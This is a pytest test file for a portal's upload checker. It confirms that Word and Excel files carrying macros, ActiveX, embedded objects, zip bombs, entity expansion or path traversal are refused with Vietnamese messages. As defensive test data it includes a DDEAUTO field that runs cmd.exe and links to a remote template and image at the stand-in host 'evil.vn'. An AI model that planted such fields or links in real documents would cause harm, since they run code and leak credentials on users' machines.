"""Word documents and workbooks that are kept as files: taken where asked for, looked at as archives."""

from __future__ import annotations

import io

import pytest

from portal.file_kinds import PAPERS, Kind, UploadRefused
from portal.office import BROKEN, DECLARED, LINKED, LOCKED, MACRO, TOO_LARGE
from portal.uploads import judge
from portal.xlsx import container
from tests.portal import bad_documents as documents
from tests.portal import bad_workbooks as workbooks

OFFICE = (*PAPERS, Kind.DOCX, Kind.XLSX)


def refusal(content: bytes, kinds: tuple[Kind, ...] = OFFICE) -> str:
    with pytest.raises(UploadRefused) as error:
        judge(io.BytesIO(content), kinds)
    return str(error.value)


@pytest.mark.parametrize(("make", "kind"), [(documents.letter, Kind.DOCX), (workbooks.book, Kind.XLSX)])
def test_where_asked_for_they_are_kept_byte_for_byte(make, kind):
    content = make()
    clean = judge(io.BytesIO(content), OFFICE)
    assert (clean.content, clean.kind, clean.pages) == (content, kind, 0)


@pytest.mark.parametrize(
    ("make", "seen"),
    [
        (documents.letter, "tệp Word (.docx)"),
        (workbooks.book, "tệp Excel (.xlsx)"),
        (lambda: workbooks.archive("a.txt"), "tệp nén"),
        (lambda: workbooks.archive("mimetype", "content.xml"), "tệp OpenDocument"),
        (lambda: b"PK\x03\x04" + bytes(50), "tệp Word, Excel hoặc tệp nén"),
    ],
)
def test_elsewhere_they_are_named_and_refused(make, seen):
    assert refusal(make(), PAPERS) == f"Chỉ nhận tệp PDF, JPEG hoặc PNG; tệp này là {seen}: hãy lưu thành PDF rồi tải lên."


def test_what_else_is_asked_for_is_named():
    assert refusal(documents.letter(), (Kind.XLSX,)) == (
        "Chỉ nhận tệp Excel (.xlsx); tệp này là tệp Word (.docx): hãy lưu thành Excel (.xlsx) rồi tải lên."
    )


REFUSED = {
    "macro": (lambda: documents.with_part("word/vbaProject.bin"), MACRO),
    "macro by its type alone": (documents.macro_by_type, MACRO),
    "workbook with a macro": (workbooks.with_macro, container.MACRO),
    "embedded object": (lambda: documents.with_part("word/embeddings/oleObject1.bin"), LINKED),
    "ActiveX": (lambda: documents.with_part("word/activeX/activeX1.xml"), LINKED),
    "archive inside": (lambda: documents.with_part("word/media/a.zip"), LINKED),
    "template of another machine": (
        lambda: documents.linked(documents.letter(), "attachedTemplate", "https://evil.vn/a.dotm"), LINKED),
    "picture of another machine": (lambda: documents.linked(documents.letter(), "image", "\\\\evil.vn\\a.png"), LINKED),
    "field that runs": (lambda: documents.with_field('DDEAUTO c:\\\\cmd.exe "/k calc"'), LINKED),
    "unpacks to 110 MB": (lambda: documents.unpacks_to(110), TOO_LARGE),
    "a million paragraphs": (documents.million_paragraphs, TOO_LARGE),
    "DOCTYPE": (lambda: documents.with_part("docProps/core.xml", b"<!DOCTYPE x><x/>"), DECLARED),
    "laughs": (lambda: documents.with_part(documents.DOCUMENT, workbooks.LAUGHS.encode()), DECLARED),
    "outside of itself": (lambda: documents.with_part("../../x"), BROKEN),
    "cut off": (lambda: documents.letter()[:9000], BROKEN),
    "no types": (lambda: workbooks.rewritten(documents.letter(), {documents.TYPES: None}), BROKEN),
    "password": (lambda: workbooks.ole("EncryptionInfo", "EncryptedPackage"), LOCKED),
    "old Word": (
        lambda: workbooks.ole("WordDocument"),
        "Chỉ nhận tệp PDF, JPEG, PNG, Word (.docx) hoặc Excel (.xlsx); tệp này là tệp Word hoặc Excel cũ: "
        "hãy lưu thành PDF rồi tải lên.",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_document_that_is_refused(name):
    make, sentence = REFUSED[name]
    assert refusal(make()) == sentence


def test_a_field_that_runs_nothing_is_taken():
    content = documents.with_field("DATE \\@ dd/MM/yyyy")
    assert judge(io.BytesIO(content), OFFICE).kind is Kind.DOCX
